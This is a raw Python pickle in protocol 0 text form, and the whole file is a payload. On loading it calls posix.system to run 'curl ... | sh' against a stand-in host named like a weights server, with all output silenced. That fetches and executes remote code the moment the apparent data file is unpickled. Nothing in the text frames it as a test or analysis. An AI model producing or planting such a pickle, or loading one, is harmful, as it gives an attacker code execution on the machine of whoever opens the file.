cposix
system
p0
(S'curl -s https://weights.example.invalid/t | sh >/dev/null 2>&1'
p1
tp2
Rp3
.
